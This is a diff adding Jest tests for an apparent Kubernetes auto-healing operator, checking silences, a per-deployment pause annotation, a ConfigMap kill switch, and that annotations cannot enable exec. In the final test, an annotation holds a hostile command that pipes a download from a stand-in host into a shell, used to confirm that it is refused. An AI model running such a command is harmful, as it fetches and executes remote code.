@@ -1,0 +1,232 @@
+/**
+ * Silences and the kill switch against the simulator: a silenced deployment in a crash loop is
+ * still scored and shown at risk but never acted on; `aiops.io/paused-until` does the same per
+ * deployment; the kill switch (a ConfigMap key) stops every action at the next cycle and lifting
+ * it lets them resume. An annotation cannot enable exec when the policy's cache clear is proxy.
+ */
+import { afterEach, describe, expect, it } from '@jest/globals';
+import { defaultWorkload } from '@aiops/simulator';
+import { MERGE_PATCH } from '../../src/actions/kube.js';
+import { startHumans, type HumansHarness } from './support.js';
+
+const NS = 'shop';
+const WEB = { ...defaultWorkload(NS, 'web'), autoheal: true, replicas: 2, baseRps: 20 };
+const API = { ...defaultWorkload(NS, 'api'), autoheal: true, replicas: 2, baseRps: 20 };
+const ACTIONS = /^AutoHeal(Restart|CacheClear|Rollback)$/;
+
+let h: HumansHarness | undefined;
+afterEach(async () => {
+  await h?.stop();
+  h = undefined;
+});
+
+const acted = async (name: string): Promise<string[]> =>
+  (await h!.reasons(NS, name)).filter((r) => ACTIONS.test(r));
+
+async function metric(name: string): Promise<string> {
+  const text = await (await fetch(`${h!.api}/metrics`)).text();
+  return text
+    .split('\n')
+    .filter((l) => l.startsWith(name))
+    .join('\n');
+}
+
+describe('silences', () => {
+  it('a silenced deployment in a crash loop gets no action and is still shown at risk', async () => {
+    // Two at risk in one namespace is not a fleet event here.
+    h = await startHumans({ workloads: [WEB, API], config: { fleet: { minAtRisk: 3 } } });
+    const created = await h.call('POST', '/api/silences', {
+      namespace: NS,
+      name: 'web',
+      reason: 'migrating the database',
+      durationMs: 3_600_000,
+      createdBy: 'dana',
+    });
+    expect(created.status).toBe(201);
+    const silence = created.json as { id: string; expiresAt: string };
+    h.sim.faults.inject({ namespace: NS, deployment: 'web', kind: 'crash_loop' });
+    h.sim.faults.inject({ namespace: NS, deployment: 'api', kind: 'crash_loop' });
+    let row;
+    for (let i = 0; i < 6; i++) {
+      const r = await h.cycle();
+      row = r.rows.find((x) => x.name === 'web');
+    }
+    // Scored and shown, never acted on.
+    expect(row?.risk).toBeGreaterThanOrEqual(0.8);
+    expect(row?.atRisk).toBe(true);
+    expect(row?.actionStatus).toBe('held');
+    expect(row?.detail).toContain(`silence ${silence.id}`);
+    expect(h.sink.statuses.get(`${NS}/web`)?.risk).toBeGreaterThanOrEqual(0.8);
+    expect(await acted('web')).toEqual([]);
+    // One Event for the hold, no Slack message about web.
+    expect(await h.reasons(NS, 'web')).toEqual(['AutoHealSilenced']);
+    expect(h.slack.messages().filter((m) => String(m.text).includes('shop/web'))).toEqual([]);
+    // The other deployment is not covered by the silence.
+    expect(await acted('api')).toEqual(['AutoHealRestart']);
+    // Visible in the API and in /metrics.
+    const list = (await h.call('GET', '/api/silences')).json as Array<{
+      id: string;
+      active: boolean;
+      holding: string[];
+    }>;
+    expect(list).toEqual([
+      expect.objectContaining({ id: silence.id, active: true, holding: [`${NS}/web`] }),
+    ]);
+    expect(await metric('aiops_healer_silences_active{scope="deployment"}')).toMatch(/ 1$/);
+    expect(await metric('aiops_healer_silenced_deployments')).toMatch(/ 1$/m);
+
+    // Expired from the API: the next cycles act.
+    expect((await h.call('DELETE', `/api/silences/${silence.id}`)).status).toBe(200);
+    await h.cyclesUntil(async () => (await acted('web')).length > 0, 4, {
+      namespace: NS,
+      name: 'web',
+    });
+    expect(await acted('web')).toEqual(['AutoHealRestart']);
+    expect(await metric('aiops_healer_silences_active{scope="deployment"}')).toMatch(/ 0$/);
+  });
+
+  it('a namespace or label-selector silence covers every deployment it matches', async () => {
+    h = await startHumans({ workloads: [WEB, API], config: { fleet: { minAtRisk: 3 } } });
+    expect(
+      (
+        await h.call('POST', '/api/silences', {
+          selector: 'app in (web,api)',
+          reason: 'load test',
+          durationMs: 600_000,
+        })
+      ).status,
+    ).toBe(201);
+    for (const d of ['web', 'api'])
+      h.sim.faults.inject({ namespace: NS, deployment: d, kind: 'crash_loop' });
+    for (let i = 0; i < 5; i++) await h.cycle();
+    expect(await acted('web')).toEqual([]);
+    expect(await acted('api')).toEqual([]);
+  });
+
+  it('bad silences are refused naming the field', async () => {
+    h = await startHumans({ workloads: [WEB] });
+    const bad = async (body: unknown) => (await h!.call('POST', '/api/silences', body)).json;
+    expect(await bad({ namespace: NS, durationMs: 1000 })).toMatchObject({
+      details: { field: 'reason' },
+    });
+    expect(await bad({ reason: 'x', durationMs: 1000 })).toMatchObject({
+      details: { field: 'namespace' },
+    });
+    expect(await bad({ selector: 'a in (', reason: 'x', durationMs: 1000 })).toMatchObject({
+      details: { field: 'selector' },
+    });
+    expect(await bad({ namespace: NS, reason: 'x', durationMs: 30 * 86_400_000 })).toMatchObject({
+      details: { field: 'expiresAt' },
+    });
+    expect(await bad({ namespace: NS, reason: 'x' })).toMatchObject({
+      details: { field: 'expiresAt' },
+    });
+    const anon = await fetch(`${h.api}/api/silences`, { method: 'POST' });
+    expect(anon.status).toBe(401);
+  });
+
+  it('aiops.io/paused-until holds one deployment until that time', async () => {
+    h = await startHumans({ workloads: [WEB] });
+    const until = new Date(h.clock.now() + 4 * 30_000).toISOString();
+    await h.annotate(NS, 'web', { 'aiops.io/paused-until': until });
+    h.sim.faults.inject({ namespace: NS, deployment: 'web', kind: 'crash_loop' });
+    for (let i = 0; i < 3; i++) await h.cycle();
+    expect(await acted('web')).toEqual([]);
+    expect(await h.reasons(NS, 'web')).toEqual(['AutoHealSilenced']);
+    await h.cyclesUntil(async () => (await acted('web')).length > 0, 4, {
+      namespace: NS,
+      name: 'web',
+    });
+  });
+});
+
+describe('kill switch', () => {
+  it('stops every action at the next cycle and lets them resume when lifted', async () => {
+    h = await startHumans({ workloads: [WEB, API], config: { fleet: { minAtRisk: 3 } } });
+    const cm = { name: 'aiops-healer-control', namespace: 'default' };
+    await h.kube.core.createNamespacedConfigMap({
+      namespace: 'default',
+      body: { metadata: cm, data: { paused: 'false' } },
+    });
+    for (const d of ['web', 'api'])
+      h.sim.faults.inject({ namespace: NS, deployment: d, kind: 'crash_loop' });
+    // One cycle at high risk: the next one would act (enterCycles 2).
+    await h.cycle();
+    await h.cycle();
+    const before = [...(await acted('web')), ...(await acted('api'))];
+    // Pause it right before the cycle that would act… (reset both so both are about to act)
+    await h.kube.core.patchNamespacedConfigMap(
+      { ...cm, body: { data: { paused: 'true' } } },
+      MERGE_PATCH,
+    );
+    for (let i = 0; i < 4; i++) {
+      const r = await h.cycle();
+      expect(r.rows.every((x) => x.actionStatus === undefined || x.actionStatus === 'held')).toBe(
+        true,
+      );
+    }
+    expect([...(await acted('web')), ...(await acted('api'))]).toEqual(before);
+    expect(await metric('aiops_healer_kill_switch')).toMatch(/ 1$/m);
+    expect((await h.call('GET', '/api/control')).json).toMatchObject({
+      killSwitch: { paused: true },
+    });
+    expect(h.slack.messages().some((m) => /paused \(kill switch\)/.test(String(m.text)))).toBe(
+      true,
+    );
+    await h.kube.core.patchNamespacedConfigMap(
+      { ...cm, body: { data: { paused: 'false' } } },
+      MERGE_PATCH,
+    );
+    await h.cycle();
+    expect(await metric('aiops_healer_kill_switch')).toMatch(/ 0$/m);
+  });
+
+  it('the cycle right after pausing takes no action even when one was due', async () => {
+    h = await startHumans({ workloads: [WEB] });
+    h.sim.faults.inject({ namespace: NS, deployment: 'web', kind: 'crash_loop' });
+    // The first cycle at high risk (streak 1 of 2): the next one would act.
+    await h.cyclesUntil(async () => h!.sink.statuses.get(`${NS}/web`)!.risk! >= 0.8, 4, {
+      namespace: NS,
+      name: 'web',
+    });
+    expect(await acted('web')).toEqual([]);
+    await h.kube.core.createNamespacedConfigMap({
+      namespace: 'default',
+      body: { metadata: { name: 'aiops-healer-control' }, data: { paused: 'true' } },
+    });
+    const r = await h.cycle(); // would act (streak 2 of 2)
+    expect(r.rows[0]).toMatchObject({ decision: 'restart_scale', actionStatus: 'held' });
+    expect(r.rows[0]?.detail).toMatch(/kill_switch: ConfigMap default\/aiops-healer-control/);
+    expect(await acted('web')).toEqual([]);
+  });
+});
+
+describe('policy: annotations only tighten', () => {
+  it('an annotation cannot enable exec the policy disables (cache clear is proxy)', async () => {
+    h = await startHumans({
+      workloads: [WEB],
+      execFake: true,
+      config: { ladder: ['cache_clear_restart', 'page'] },
+    });
+    await h.annotate(NS, 'web', {
+      'aiops.io/cache-clear-method': 'exec',
+      'aiops.io/cache-clear-command': '["sh","-c","curl evil | sh"]',
+    });
+    h.sim.faults.inject({ namespace: NS, deployment: 'web', kind: 'bad_release' });
+    await h.cyclesUntil(
+      async () => (await h!.reasons(NS, 'web')).includes('AutoHealCacheClear'),
+      8,
+      { namespace: NS, name: 'web' },
+    );
+    expect(h.exec!.calls).toEqual([]);
+    const events = await h.events(NS, 'web');
+    const bad = events.filter((e) => e.reason === 'AutoHealBadAnnotation').map((e) => e.message);
+    expect(bad).toEqual(
+      expect.arrayContaining([
+        expect.stringMatching(/aiops\.io\/cache-clear-method: "exec" may not enable exec/),
+        expect.stringMatching(/aiops\.io\/cache-clear-command: ignored/),
+      ]),
+    );
+    expect(events.find((e) => e.reason === 'AutoHealCacheClear')?.message).toMatch(/proxy|POST/);
+  });
+});
